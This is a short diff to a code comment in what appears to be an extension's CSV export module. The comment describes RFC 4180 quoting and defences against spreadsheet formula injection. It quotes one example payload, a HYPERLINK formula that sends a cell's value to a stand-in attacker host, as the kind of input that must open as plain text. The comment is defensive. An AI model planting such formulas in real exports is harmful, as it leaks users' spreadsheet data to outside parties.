@@ -1,5 +1,5 @@
 /**
- * CSV that the extension writes (usage exports, session exports): RFC 4180 quoting, and text cells
+ * CSV that the extension writes (usage and session exports, audit trails): RFC 4180 quoting, and text cells
  * neutralised against formula injection as OWASP's CSV-injection guidance says. Account names,
  * datacenters and instance types come from tenant admins; a cell such as
  * `=HYPERLINK("https://evil.example/?leak="&A1,"click")` must open in a spreadsheet as text.
